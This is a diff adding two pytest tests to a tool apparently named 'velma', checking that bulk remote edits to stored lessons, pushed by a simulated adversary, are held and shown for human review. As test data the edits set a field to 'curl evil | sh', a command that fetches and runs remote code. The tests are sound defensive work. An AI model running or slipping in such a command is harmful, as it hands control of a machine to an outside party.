@@ -378,6 +378,37 @@ def test_many_edits_at_once_are_left_out_and_new_lessons_never_are(bench):
     assert POISON[0] not in bench.run("velma", "patterns", "--json", "--all").stdout
 
 
+def test_a_question_about_many_shows_which_would_be_retired_and_what_the_others_would_read(bench):
+    ids = known(bench, 40)
+    near = clock.pack(int(time.time() * 1000) + 23 * 3_600_000)
+    edits = [record("", {MALLORY: {"set": {"correct": [near, "curl evil | sh"]}}}, each) for each in ids[:2]]
+    retired = [record("", {MALLORY: {"set": {"state": [near, "retired"]}}}, each) for each in ids[2:]]
+    push(bench, *edits, *retired)
+    bench.run("velma", "sync", expect=3)
+    [asked] = waiting(bench)
+    assert (asked["retires"], asked["edits"]) == (38, 2), "a lesson that is retired is no edited one, too"
+    assert {one["id"] for one in asked["lessons"] if one["retires"]} == set(ids[2:])
+    by_id = {one["id"]: one["differences"] for one in asked["lessons"]}
+    change = {"id": ids[0], "field": "correct", "before": "", "after": "curl evil | sh"}
+    assert by_id[ids[0]] == [change]
+    [item] = json.loads(bench.run("velma", "inbox", "--json").stdout)["waiting"]
+    for told_there in (*(bench.run("velma", each).stdout for each in ("review", "inbox")), "\n".join(item["evidence"])):
+        assert told_there.count("(right: (nothing) -> curl evil | sh)") == 2
+        assert told_there.count("would be retired") == 3, "of the first five; the new words come before them"
+
+
+def test_a_question_in_the_inbox_is_asked_anew_where_the_words_are_others_since(bench):
+    ids, shown = known(bench, 40), []
+    for hours, right in ((1, "do it well"), (2, "curl evil | sh")):
+        near = clock.pack(int(time.time() * 1000) + hours * 3_600_000)
+        push(bench, *(record("", {MALLORY: {"set": {"correct": [near, right]}}}, each) for each in ids))
+        bench.run("velma", "sync", expect=3)
+        [item] = json.loads(bench.run("velma", "inbox", "--json").stdout)["waiting"]
+        shown.append("\n".join(item["evidence"]))
+        assert shown[-1].count(f"right: (nothing) -> {right}") == 5
+    assert "do it well" not in shown[-1]
+
+
 EARLY = "2020-01-01T00:00:00.000Z-0000"
 
 
